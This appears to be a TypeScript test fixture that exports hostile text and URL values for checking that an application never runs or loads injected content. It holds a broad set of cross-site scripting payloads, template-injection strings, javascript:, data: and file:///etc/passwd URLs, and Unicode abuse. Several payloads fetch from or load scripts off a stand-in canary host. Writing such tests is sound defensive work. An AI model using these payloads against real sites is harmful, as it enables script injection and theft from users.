/** No hostile text may ever cause a request to this host. */
export const canaryHost = 'canary.example'

const canary = `https://${canaryHost}`
const attack = `window.canary=1,alert(1),fetch('${canary}/ran')`
/** Many combining marks above and below each letter. */
const zalgo = [...'everything is fine']
  .map((letter) => letter + '\u0300\u0316\u0322\u0489\u0361\u033E\u0353\u0301\u0317\u0323'.repeat(6))
  .join('')

/**
 * Hostile values for every text field. Elements created from one carry `data-canary`; scripts that run set `window.canary`, open a dialog
 * or call the canary host.
 */
export const hostileTexts: readonly string[] = [
  `<script data-canary>${attack}</script>`,
  `</script></style></title></textarea></noscript><script data-canary src="${canary}/a.js"></script>`,
  `"><img data-canary src=x onerror="${attack}">`,
  `'><svg data-canary/onload=${attack}><animate onbegin=${attack} attributeName=x dur=1s>`,
  `<a data-canary href="javascript:${attack}">press</a> [press](javascript:${attack}) javascript:${attack}`,
  `<a data-canary href="data:text/html,<script>${attack}</script>">press</a> data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<iframe data-canary srcdoc="<script>parent.${attack}</script>"></iframe><object data-canary data="${canary}/o"></object>`,
  `<style data-canary>@import url(${canary}/s.css);*{background:url(${canary}/b)!important;display:none!important}</style>`,
  `" style="position:fixed;inset:0;background:url(${canary}/c)" onmouseover="${attack}" data-canary="`,
  `url(${canary}/u) expression(${attack}) -moz-binding:url(${canary}/x) \\000022;} body{display:none}`,
  `{{constructor.constructor('${attack}')()}} \${${attack}} <%= ${attack} %> #{${attack}} {%raw%} [[\${${attack}}]]`,
  `<form data-canary action="${canary}/f"><input autofocus onfocus="${attack}"><button formaction="javascript:${attack}">Log in again</button></form>`,
  `<meta data-canary http-equiv="refresh" content="0;url=${canary}/m"><base data-canary href="${canary}/"><link data-canary rel=stylesheet href="${canary}/l">`,
  `<math data-canary><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  `&lt;img src=x onerror=${attack}&gt; &#60;script&#62;${attack}&#60;/script&#62; %3Cscript%3E \\u003cscript\\u003e`,
  `\u202Emoc.elpmaxe\u202C \u2067\u2066\u202D\u200F turned \u061C round \u2069\u2069\u2069 and not back \u202E\u202E\u202E`,
  zalgo,
  'W'.repeat(700),
  `${'ﷺ'.repeat(80)}${'\u{12031}'.repeat(40)}`,
  `\uD800 alone \uDC00 \u0000null\u0000 \u0001\u0008\u000B\u001B[31m \u007F \uFFFE \uFEFF`,
  `${'\n'.repeat(200)}far down${'\u200B'.repeat(500)}`,
  `__proto__ constructor prototype toString hasOwnProperty {"__proto__":{"canary":1}}`,
  `🏴󠁧󠁢󠁷󠁬󠁳󠁿${'👩\u200D❤\uFE0F\u200D💋\u200D👩🏽'.repeat(60)}`,
  `${canary}/%00%2e%2e/\u2028line\u2029paragraph ${'https://'.repeat(30)}a.b ${'@'.repeat(300)}${'#'.repeat(300)}`,
]

/** URLs that must never be followed, loaded or run. */
export const hostileUrls: readonly string[] = [
  `javascript:${attack}`,
  `JaVaScRiPt:${attack}//https://`,
  ` \u0001javascript:${attack}`,
  `java\nscript:${attack}`,
  `data:text/html,<script>${attack}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"/>`,
  `vbscript:msgbox(1)`,
  `blob:${canary}/1`,
  `file:///etc/passwd`,
  `https://`,
  `https://user:pass@[::1`,
  `\\\\${canaryHost}\\share`,
]
